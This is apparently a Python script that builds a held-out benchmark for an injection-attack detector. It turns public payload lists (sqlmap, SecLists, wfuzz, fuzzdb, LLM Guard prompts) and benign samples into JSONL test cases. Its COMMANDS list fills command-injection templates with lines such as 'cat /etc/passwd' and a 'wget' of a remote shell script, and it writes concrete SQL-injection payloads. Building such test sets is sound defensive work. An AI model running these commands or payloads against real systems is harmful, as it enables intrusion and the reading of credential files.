#!/usr/bin/env python3
"""Turn bench/detect/heldout/raw/<category>/* into cases/<category>/<name>.jsonl
in the format of shared/corpus (see its README.md): one JSON object a line,
{"input": ...} for attack inputs and benign inputs, {"operation": ...} for
benign operations; no empty case, no duplicate within a file.

    python3 bench/detect/heldout/convert.py [--shared DIR | --no-shared]

A held-out set must not repeat the development set: a case whose string is
also a case of the same category in DIR (default: shared/corpus/cases beside
the repository) is left out, and the count of such cases is printed.

Standard library only. Each source format has its own function below; what
each source is and how it is read is in raw/<category>/SOURCES.md.
"""
import argparse
import codecs
import csv
import io
import json
import os
import re
import sqlite3
import sys
import xml.etree.ElementTree as ET

HERE = os.path.dirname(os.path.abspath(__file__))
RAW = os.path.join(HERE, "raw")
CASES = os.path.join(HERE, "cases")

ATTACK = {"sqli", "nosql", "xss", "ssrf", "path-traversal", "command-injection",
          "prompt-injection", "other", "benign-user-input", "benign-prompts"}
OPERATION = {"benign-sql", "benign-shell", "benign-paths", "benign-urls", "benign-html"}


def _pct(err):
    """Bytes that are not UTF-8 stay as %XX (shared README)."""
    bad = err.object[err.start:err.end]
    return "".join("%%%02X" % b for b in bad), err.end


codecs.register_error("moat_pct", _pct)


def read(cat, name):
    with open(os.path.join(RAW, cat, name), "rb") as f:
        return f.read().decode("utf-8", "moat_pct")


def lines(cat, name, comments=False):
    """One case a line; CR/LF stripped, other spaces kept (a leading space is
    part of many payloads). comments=True drops '# ' comment lines."""
    out = []
    for ln in read(cat, name).split("\n"):
        ln = ln.rstrip("\r")
        if comments and ln.startswith("# "):
            continue
        out.append(ln)
    return out


# --- placeholders -----------------------------------------------------------

# concrete values for the fuzzers' placeholders, as the shared README asks
FILE = "etc/passwd"
SLEEP = "5"
COMMANDS = ["id", "cat /etc/passwd", "sleep 5", "uname -a", "wget http://203.0.113.7/x.sh"]


def fill_file(s):
    return s.replace("{FILE}", FILE)


def fill_time(s):
    return s.replace("__TIME__", SLEEP)


# --- sqlmap -----------------------------------------------------------------

def _ints(s):
    """sqlmap's "1,2,3" and "1-8" lists."""
    out = set()
    for x in s.split(","):
        x = x.strip()
        if "-" in x:
            lo, hi = x.split("-")
            out.update(range(int(lo), int(hi) + 1))
        elif x:
            out.add(int(x))
    return out


def _chars(v, fn, sep, wrap):
    return wrap % sep.join("%s(%d)" % (fn, ord(c)) for c in v)


# how sqlmap's DBMS plugins (plugins/dbms/*/syntax.py, escape()) write a
# string literal of a payload once the DBMS is known; other DBMSes keep quotes
SQLMAP_ESCAPE = {
    "MySQL": lambda v: "0x" + v.encode("utf-8").hex(),
    "PostgreSQL": lambda v: _chars(v, "CHR", "||", "(%s)"),
    "Oracle": lambda v: _chars(v, "CHR", "||", "(%s)"),
    "Microsoft SQL Server": lambda v: _chars(v, "CHAR", "+", "%s"),
    "Sybase": lambda v: _chars(v, "CHAR", "+", "%s"),
    "SQLite": lambda v: "CAST(X'%s' AS TEXT)" % v.encode("utf-8").hex().upper(),
}


def sqlmap_escape(payload, dbms):
    """The quoted string literals of a test's payload as sqlmap sends them to
    that DBMS (the boundary's own quotes are not touched, as in sqlmap)."""
    esc = SQLMAP_ESCAPE.get(dbms)
    if not esc:
        return payload
    return re.sub(r"'([^']+)'", lambda m: esc(m.group(1)), payload)


def sqlmap_payloads(test_files, boundaries_file, max_test_level=3, max_boundary_level=2):
    """Every request payload of sqlmap's boolean, error, inline, stacked and
    time tests (level <= 3) joined to every boundary (level <= 2) that fits its
    clause and place, as sqlmap's agent builds them: original value, boundary
    prefix, space, payload, then the test's comment or the boundary's suffix.
    Placeholders get concrete values; [RANDNUMn]/[RANDSTRn] vary from one
    payload to the next but are the same within one, as in sqlmap; the
    payload's string literals are written as sqlmap writes them for the
    test's DBMS (0x... for MySQL, CHR()||... for PostgreSQL and Oracle, ...)."""
    broot = ET.fromstring(read("sqli", boundaries_file))
    bounds = []
    for b in broot.iter("boundary"):
        if int(b.findtext("level")) > max_boundary_level:
            continue
        bounds.append((_ints(b.findtext("clause")), _ints(b.findtext("where")),
                       b.findtext("prefix") or "", b.findtext("suffix") or ""))
    out = []
    k = [0]

    def num():
        k[0] += 1
        return str(1000 + (k[0] * 7919) % 9000)

    def word():
        k[0] += 1
        a = "abcdefghijklmnopqrstuvwxyz"
        n = k[0] * 2654435761
        return "".join(a[(n >> (5 * i)) % 26] for i in range(4))

    def fill(p):
        for t in sorted(set(re.findall(r"\[RANDNUM\d*\]", p))):
            p = p.replace(t, num())
        for t in sorted(set(re.findall(r"\[RANDSTR\d*\]", p))):
            p = p.replace(t, word())
        p = (p.replace("[SLEEPTIME]", SLEEP).replace("[DELIMITER_START]", "qkvjq")
             .replace("[DELIMITER_STOP]", "qzbxq").replace("[GENERIC_SQL_COMMENT]", "-- -")
             .replace("[ORIGVALUE]", "1").replace("[ORIGINAL]", "1")
             .replace("[INFERENCE]", "1=1").replace("[QUERY]", "SELECT 1")
             .replace("[CHAR]", "NULL").replace("[SPACE_REPLACE]", " ")
             .replace("[AT_REPLACE]", "@").replace("[DOLLAR_REPLACE]", "$")
             .replace("[HASH_REPLACE]", "#"))
        left = re.findall(r"\[[A-Z_]+\d*\]", p)
        if left:
            raise SystemExit("sqlmap placeholder not filled: %s in %r" % (left, p))
        return p

    for tf in test_files:
        root = ET.fromstring(read("sqli", tf))
        for t in root.iter("test"):
            if int(t.findtext("level")) > max_test_level:
                continue
            req = t.find("request")
            payload = req.findtext("payload")
            if not payload:
                continue
            dbms = t.findtext("details/dbms") or ""
            comment = req.find("comment")
            comment = comment.text or "" if comment is not None else None
            tclause, twhere = _ints(t.findtext("clause")), _ints(t.findtext("where"))
            body = sqlmap_escape(fill(payload), dbms)
            for bclause, bwhere, prefix, suffix in bounds:
                if not (0 in bclause or 0 in tclause or bclause & tclause):
                    continue
                for w in sorted(twhere & bwhere) + ([3] if 3 in twhere else []):
                    if w == 3:
                        s = body + ((" " + fill(comment)) if comment else "")
                    else:
                        orig = "1" if w == 1 else "-" + num()
                        tail = (" " + fill(comment)) if comment is not None else fill(suffix)
                        s = orig + fill(prefix) + " " + body + tail
                    out.append(s)
    return out


# --- command lines of cheat sheets --------------------------------------------

CHEAT_VALUES = {
    "url": "https://example.org/downloads/file.tar.gz",
    "remote-url": "https://github.com/cheat/cheatsheets.git",
    "outfile": "file.tar.gz", "partial-file": "file.tar.gz.part",
    "username": "alice", "user": "alice", "password": "s3cret",
    "host": "server.example.org", "hostname": "server.example.org",
    "proxy-host": "proxy.example.org", "port": "2222", "pemfile": "~/.ssh/server.pem",
    "file": "notes.txt", "pattern": "error", "pattern-file": "patterns.txt", "dir": "src",
    "src": "./photos/", "dest": "/backup/photos/", "source": "./site/",
    "image-name": "debian:bookworm", "container-name": "web1", "container-id": "3f2a9c1b",
    "container-name-or-id": "web1", "name": "alice", "email": "alice@example.org",
    "editor": "vim", "message": "fix-typo", "repo": "cheatsheets", "tagname": "v1.2.0",
    "branch": "feature-x", "commit SHA": "83fb499", "commit SHA1": "83fb499",
    "username-or-userid": "alice", "path/to/file.json": "data.json",
}
# the sheets' own command words, and the other commands their lines start with
CHEAT_COMMANDS = {"awk", "curl", "docker", "ffmpeg", "find", "git", "grep", "jq", "openssl",
                  "rsync", "sed", "ssh", "tar", "xargs", "ps", "echo", "printf", "seq", "cat",
                  "for", "sshfs", "emacs"}
# notation, not command lines: "tar -z ... -> tar -Ipigz ...", "docker inspect <x> (or <y>)"
CHEAT_NOT_COMMANDS = re.compile(r" -> |\(or <")


def _shell_open(s):
    """True when s ends inside a quote or after a line-continuing backslash."""
    q = None
    i = 0
    while i < len(s):
        c = s[i]
        if q == "'":
            if c == "'":
                q = None
        elif c == "\\":
            if i + 1 == len(s):
                return True
            i += 1
        elif q == '"':
            if c == '"':
                q = None
        elif c in "'\"":
            q = c
        i += 1
    return q is not None


def _fill_outside_quotes(s):
    out, q, i = [], None, 0
    while i < len(s):
        c = s[i]
        if q is None and c == "<":
            m = re.match(r"<([A-Za-z][A-Za-z0-9 /._-]*)>", s[i:])
            if m:
                v = m.group(1)
                out.append(CHEAT_VALUES.get(v, v.replace(" ", "-")))
                i += m.end()
                continue
        if q == "'" and c == "'":
            q = None
        elif q is None and c == "\\" and i + 1 < len(s):
            out.append(s[i:i + 2])
            i += 2
            continue
        elif q == '"' and c == '"':
            q = None
        elif q is None and c in "'\"":
            q = c
        out.append(c)
        i += 1
    return "".join(out)


def cheat_commands(cat, name):
    text = read(cat, name)
    if text.startswith("---\n"):
        end = text.find("\n---\n", 4)
        text = text[end + 5:] if end >= 0 else text
    src = text.split("\n")
    out = []
    i = 0
    while i < len(src):
        ln = src[i]
        i += 1
        st = ln.strip()
        if not st or st.startswith("#"):
            continue
        cmd = ln.strip()
        while _shell_open(cmd) and i < len(src):
            if cmd.endswith("\\"):
                cmd = cmd[:-1].rstrip() + " " + src[i].strip()
            else:
                cmd = cmd + "\n" + src[i]
            i += 1
        first = re.split(r"\s", cmd, 1)[0]
        if first not in CHEAT_COMMANDS or CHEAT_NOT_COMMANDS.search(cmd):
            continue
        out.append(_fill_outside_quotes(cmd).rstrip())
    return out


# --- SQL statements of the SQLite documentation ---------------------------------

def split_sql(text):
    """Statements separated by ';' outside quotes, comments and [] names."""
    out, cur, i, n = [], [], 0, len(text)
    while i < n:
        c = text[i]
        if c in "'\"`[":
            close = "]" if c == "[" else c
            j = i + 1
            while j < n:
                if text[j] == close:
                    if close != "]" and j + 1 < n and text[j + 1] == close:
                        j += 2
                        continue
                    break
                j += 1
            cur.append(text[i:j + 1])
            i = j + 1
        elif text.startswith("--", i):
            j = text.find("\n", i)
            j = n if j < 0 else j
            cur.append(text[i:j])
            i = j
        elif text.startswith("/*", i):
            j = text.find("*/", i + 2)
            j = n if j < 0 else j + 2
            cur.append(text[i:j])
            i = j
        elif c == ";":
            out.append("".join(cur))
            cur = []
            i += 1
        else:
            cur.append(c)
            i += 1
    out.append("".join(cur))
    return out


SQL_START = re.compile(r"(?is)(SELECT|INSERT|UPDATE|DELETE|WITH|REPLACE|CREATE|ALTER|DROP)\b")


def strip_leading_comments(s):
    while True:
        s = s.strip()
        if s.startswith("--"):
            nl = s.find("\n")
            s = "" if nl < 0 else s[nl + 1:]
        elif s.startswith("/*") and "*/" in s:
            s = s[s.find("*/") + 2:]
        else:
            return s


def sqlite_parses(stmt):
    """Whether SQLite's parser accepts the statement (missing tables and
    functions are fine: only the syntax is asked)."""
    con = sqlite3.connect(":memory:")
    try:
        con.execute("EXPLAIN " + stmt)
    except sqlite3.ProgrammingError:
        return True  # parameters without bindings: the syntax was accepted
    except sqlite3.Error as e:
        m = str(e)
        return not ("syntax error" in m or "incomplete input" in m or "unrecognized token" in m)
    finally:
        con.close()
    return True


def sqlite_doc_statements(cat, name):
    out = []
    for block in re.split(r"(?m)^-- @@file: .*$", read(cat, name)):
        for s in split_sql(block):
            s = strip_leading_comments(s)
            if not s or not SQL_START.match(s):
                continue
            if "..." in s or re.search(r"<[A-Za-z][A-Za-z -]*>", s):
                continue  # grammar notation, not a statement
            if sqlite_parses(s):
                out.append(s)
    return out


# --- other formats ------------------------------------------------------------------

def json_strings(cat, name):
    return [json.loads(ln) for ln in read(cat, name).split("\n") if ln.strip()]


def fortunes(cat, name):
    return [f.strip("\n") for f in re.split(r"(?m)^%\n", read(cat, name))]


def awesome_prompts(cat, name):
    """The CSV is the first 16,000 characters of the file: its last row is cut
    and left out."""
    rows = list(csv.reader(io.StringIO(read(cat, name))))
    return [r[1] for r in rows[1:-1] if len(r) == 2]


def llmguard(cat, name, valid):
    return [o["prompt"] for o in map(json.loads, read(cat, name).split("\n")[:-1])
            if o["expected_valid"] is valid]


def fuzzdb_template(cat, name):
    return [t.replace("{cmd}", c) for t in lines(cat, name) if t for c in COMMANDS]


# --- the sources -------------------------------------------------------------------

SQLMAP_TESTS = ["sqlmap_payloads_%s.xml" % p for p in
                ("boolean_blind", "error_based", "inline_query", "stacked_queries", "time_blind")]

SOURCES = [
    # (category, output name, function returning the cases)
    ("sqli", "seclists_Generic-SQLi", lambda: [fill_time(s) for s in lines("sqli", "seclists_Generic-SQLi.txt", True)]),
    ("sqli", "wfuzz_Injections_SQL", lambda: lines("sqli", "wfuzz_Injections_SQL.txt")),
    ("sqli", "wfuzz_vulns_sql_inj", lambda: lines("sqli", "wfuzz_vulns_sql_inj.txt")),
    ("sqli", "sqlmap_payloads", lambda: sqlmap_payloads(SQLMAP_TESTS, "sqlmap_boundaries.xml")),
    ("xss", "seclists_XSS-Somdev", lambda: lines("xss", "seclists_XSS-Somdev.txt")),
    # the first 16,000 characters of the file: its last line is cut and left out
    ("xss", "seclists_XSS-OFJAAAH", lambda: lines("xss", "seclists_XSS-OFJAAAH_first16000.txt")[:-1]),
    ("xss", "wfuzz_Injections_XSS", lambda: lines("xss", "wfuzz_Injections_XSS.txt")),
    ("nosql", "seclists_NoSQL", lambda: lines("nosql", "seclists_NoSQL.txt")),
    ("nosql", "owasp-wstg_nosql_examples", lambda: lines("nosql", "owasp-wstg_nosql_examples.txt")),
    ("ssrf", "seclists_SSRF_hacktricks", lambda: lines("ssrf", "seclists_SSRF_hacktricks.txt")),
    ("ssrf", "fuzzdb_ip_localhost", lambda: lines("ssrf", "fuzzdb_ip_localhost.txt")),
    ("path-traversal", "wfuzz_vulns_dirTraversal",
     lambda: [fill_file(s) for s in lines("path-traversal", "wfuzz_vulns_dirTraversal.txt")]),
    ("command-injection", "fuzzdb_command-injection-template",
     lambda: fuzzdb_template("command-injection", "fuzzdb_command-injection-template.txt")),
    ("prompt-injection", "llmguard_test_prompts", lambda: llmguard("prompt-injection", "llmguard_test_prompts.jsonl", False)),
    ("benign-prompts", "llmguard_test_prompts", lambda: llmguard("prompt-injection", "llmguard_test_prompts.jsonl", True)),
    ("benign-prompts", "awesome-chatgpt-prompts",
     lambda: awesome_prompts("benign-prompts", "awesome-chatgpt-prompts_prompts_first16000.csv")),
    ("benign-user-input", "fortunes-min",
     lambda: [f for n in ("fortunes", "literature", "riddles")
              for f in fortunes("benign-user-input", "fortunes-min_" + n)]),
    ("benign-sql", "sqlite_doc_statements", lambda: sqlite_doc_statements("benign-sql", "sqlite_doc_sql_blocks.sql")),
    ("benign-shell", "cheat_cheatsheets",
     lambda: [c for n in sorted(os.listdir(os.path.join(RAW, "benign-shell"))) if n.startswith("cheat_")
              for c in cheat_commands("benign-shell", n)]),
    ("benign-html", "sqlite_doc_fragments", lambda: json_strings("benign-html", "sqlite_doc_fragments.jsonl")),
    ("benign-html", "sqlite_doc_pages", lambda: json_strings("benign-html", "sqlite_doc_pages.jsonl")),
    ("benign-urls", "debian_doc_urls", lambda: lines("benign-urls", "debian_doc_urls.txt")),
    ("benign-paths", "debian_package_files", lambda: lines("benign-paths", "debian_package_files.txt")),
]


def shared_strings(d):
    seen = {}
    if not d:
        return seen
    for cat in os.listdir(d):
        p = os.path.join(d, cat)
        if not os.path.isdir(p):
            continue
        s = seen.setdefault(cat, set())
        for fn in os.listdir(p):
            if fn.endswith(".jsonl"):
                with open(os.path.join(p, fn), encoding="utf-8") as f:
                    for ln in f:
                        o = json.loads(ln)
                        v = o.get("input", o.get("operation"))
                        if isinstance(v, str):
                            s.add(v)
    return seen


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    default = os.path.normpath(os.path.join(HERE, "..", "..", "..", "..", "shared", "corpus", "cases"))
    ap.add_argument("--shared", default=default, help="development set to leave out (%(default)s)")
    ap.add_argument("--no-shared", action="store_true", help="do not leave out development-set cases")
    a = ap.parse_args()
    if a.no_shared:
        dev = {}
    elif os.path.isdir(a.shared):
        dev = shared_strings(a.shared)
    else:
        sys.exit("no development set at %s (give --shared DIR or --no-shared)" % a.shared)
    total = 0
    for cat, name, fn in SOURCES:
        key = "operation" if cat in OPERATION else "input"
        assert cat in ATTACK or cat in OPERATION, cat
        seen, out, empty, indev = set(), [], 0, 0
        for s in fn():
            if not s.strip():
                empty += 1
                continue
            if s in seen:
                continue
            if s in dev.get(cat, ()):
                indev += 1
                continue
            seen.add(s)
            out.append(s)
        d = os.path.join(CASES, cat)
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, name + ".jsonl"), "w", encoding="utf-8", newline="\n") as f:
            for s in out:
                f.write(json.dumps({key: s}, ensure_ascii=False) + "\n")
        total += len(out)
        print("%-18s %-36s %6d cases (%d in the development set left out)" % (cat, name, len(out), indev))
    print("total %d cases" % total)


if __name__ == "__main__":
    main()
